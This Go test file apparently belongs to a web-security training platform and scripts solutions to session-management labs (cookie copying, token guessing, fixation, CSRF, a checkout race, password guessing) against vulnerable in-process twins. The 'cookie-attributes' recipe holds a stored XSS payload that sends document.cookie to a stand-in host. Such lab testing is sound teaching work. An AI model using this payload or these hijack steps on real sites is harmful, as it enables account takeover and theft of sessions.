package lab

import (
	"net/http"
	"regexp"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"example.com/gatehouse/webtest"
)

const origin = "http://127.0.0.1:9"

// A student solves a lab with raw cookies, as with curl.
type student struct {
	*webtest.Client
	b *Bench
}

func (l *Labs) student(t *testing.T, lesson, version string) *student {
	t.Helper()
	b, err := l.Begin("student", lesson, version)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.close)
	c := webtest.New(t, origin)
	c.Transport, c.IP = webtest.InProcess(l.Twin()), "127.0.0.1"
	return &student{c, b}
}

// lets the victim make a move.
func (s *student) lets(move string, given ...string) {
	s.T.Helper()
	if err := s.b.Act(move, strings.Join(given, "")); err != nil {
		s.T.Fatalf("%s: %v", move, err)
	}
}

// sends a request with a cookie, "" for none, and returns the answer.
func (s *student) sends(method, path, cookie string, fields ...string) *webtest.Answer {
	s.T.Helper()
	s.Cookies = map[string]string{}
	r := s.Request(method, "/"+s.b.Address+path, fields...)
	if cookie != "" {
		r.Header.Set("Cookie", cookie)
	}
	return s.Do(r)
}

func (s *student) opens(cookie string) { s.T.Helper(); s.sends("GET", "/account", cookie) }

// given is the cookie that an answer sets, as name=value.
func given(a *webtest.Answer) string {
	first, _, _ := strings.Cut(a.Header.Get("Set-Cookie"), ";")
	return first
}

// signsIn signs the attacker in to the attacker's own account.
func (s *student) signsIn() string {
	s.T.Helper()
	f := s.b.Facts()
	return given(s.sends("POST", "/login", "", "email", f.Attacker, "password", f.Password).Want(http.StatusSeeOther))
}

// recipes solve each lab. Without the deciding step they do all the rest.
var recipes = map[string]func(s *student, decide bool){
	"the-wristband": func(s *student, decide bool) {
		s.lets("sign-in")
		s.lets("copy")
		s.opens(s.b.Facts().Copied)
		s.lets("sign-out")
		if decide {
			s.opens(s.b.Facts().Copied)
		}
	},
	"tokens": func(s *student, decide bool) {
		s.lets("sign-in")
		mine := given(s.sends("GET", "/login", ""))
		name, number, _ := strings.Cut(mine, "=")
		s.opens(mine)
		if last := number[len(number)-1]; decide {
			s.opens(name + "=" + number[:len(number)-1] + string(last-1))
		}
	},
	"cookie-attributes": func(s *student, decide bool) {
		mine := s.signsIn()
		note := "<b>hello</b>"
		if decide {
			note = "<script>fetch('https://prizes.example/?'+document.cookie)</script>"
		}
		s.sends("POST", "/board", mine, "note", note)
		s.lets("sign-in")
		s.lets("read")
		stolen := regexp.MustCompile("\u201c(.*)\u201d").FindStringSubmatch(strings.Join(s.b.Facts().Heard, "\n"))
		if stolen != nil {
			s.opens(stolen[1])
		}
	},
	"fixation": func(s *student, decide bool) {
		mine := given(s.sends("GET", "/login", ""))
		if decide {
			s.lets("plant", mine)
		}
		s.lets("sign-in")
		s.opens(mine)
	},
	"rotation": func(s *student, decide bool) {
		s.lets("sign-in")
		s.lets("copy")
		s.opens(s.b.Facts().Copied)
		if decide {
			s.lets("confirm")
		}
		s.opens(s.b.Facts().Copied)
	},
	"guessing": func(s *student, decide bool) {
		f := s.b.Facts()
		for _, guess := range f.Guesses {
			a := s.sends("POST", "/login", "", "email", f.Victim, "password", guess)
			if a.StatusCode == http.StatusSeeOther && decide {
				s.opens(given(a))
			}
		}
	},
	"two-limits": func(s *student, decide bool) {
		s.lets("sign-in")
		s.lets("copy")
		cookie := s.b.Facts().Copied
		time.Sleep(40 * time.Second)
		s.opens(cookie)
		if decide {
			cookie = given(s.sends("POST", "/reauth", cookie, "password", s.b.Facts().VictimsPassword))
		}
		time.Sleep(25 * time.Second)
		s.opens(cookie)
	},
	"once": func(s *student, decide bool) {
		mine := s.signsIn()
		order := regexp.MustCompile(`name="order" value="([^"]+)"`).FindStringSubmatch(s.sends("GET", "/billing/checkout", mine).Body)[1]
		s.attacks(Attack{Method: "POST", Path: "/billing/checkout", Cookie: mine, Bodies: "order=" + order + "\r\norder=" + order, AtOnce: decide})
	},
	"sign-out-that-holds": func(s *student, decide bool) {
		s.lets("sign-in")
		s.lets("copy")
		if decide {
			s.lets("slow")
		}
		s.lets("sign-out")
		s.opens(s.b.Facts().Copied)
		if decide {
			s.lets("slow-arrives")
		}
		s.opens(s.b.Facts().Copied)
	},
	"listing-and-ending": func(s *student, decide bool) {
		s.lets("sign-in")
		s.lets("copy")
		s.opens(s.b.Facts().Copied)
		s.lets("end-others")
		if decide {
			s.opens(s.b.Facts().Copied)
		}
	},
	"a-new-password": func(s *student, decide bool) {
		s.lets("sign-in")
		s.lets("copy")
		s.opens(s.b.Facts().Copied)
		s.lets("new-password")
		if decide {
			s.opens(s.b.Facts().Copied)
		}
	},
	"csrf": func(s *student, decide bool) {
		mine := s.signsIn()
		s.sends("POST", "/account/email", mine, "email", "somebody@else.example").Want(http.StatusSeeOther)
		s.lets("sign-in")
		x := Attack{Method: "POST", Path: "/account/email", Bodies: "email=" + s.b.Facts().Attacker, Cookie: mine, FromPage: decide}
		s.attacks(x)
	},
	"ids-in-urls": func(s *student, decide bool) {
		s.lets("sign-in")
		s.lets("send-link")
		_, token, found := strings.Cut(strings.Join(s.b.Facts().Heard, ""), "session=")
		if !found || !decide {
			token = "something"
		}
		s.opens(s.b.Facts().Cookie + "=" + token)
	},
}

func (s *student) attacks(x Attack) {
	s.T.Helper()
	if err := s.b.Send(x); err != nil {
		s.T.Fatal(err)
	}
}

// solved does a recipe in the time of a bubble, and reports whether the lab turned green.
func solved(t *testing.T, lesson, version string, decide bool) (is bool) {
	t.Helper()
	synctest.Test(t, func(t *testing.T) {
		s := New(origin).student(t, lesson, version)
		recipes[lesson](s, decide)
		is = !s.b.Solved().IsZero()
	})
	return is
}

// Each lab turns green by its attack, stays red when everything but the deciding step is done, and is red whatever is done on
// a sound twin.
func TestLabs(t *testing.T) {
	t.Parallel()
	for _, l := range All() {
		t.Run(l.Lesson, func(t *testing.T) {
			t.Parallel()
			if recipes[l.Lesson] == nil {
				t.Fatal("no test solves it")
			}
			if !solved(t, l.Lesson, WithMistake, true) {
				t.Error("it is not solved by its solution")
			}
			if solved(t, l.Lesson, WithMistake, false) {
				t.Error("it is solved without the deciding step")
			}
			for _, v := range l.Versions() {
				if got := solved(t, l.Lesson, v.Name, true); got && !v.Broken || v.Name == "sound" && (got || v.Broken) {
					t.Errorf("on the version %q, which has the mistake: %t, it is solved: %t", v.Name, v.Broken, got)
				}
			}
		})
	}
}
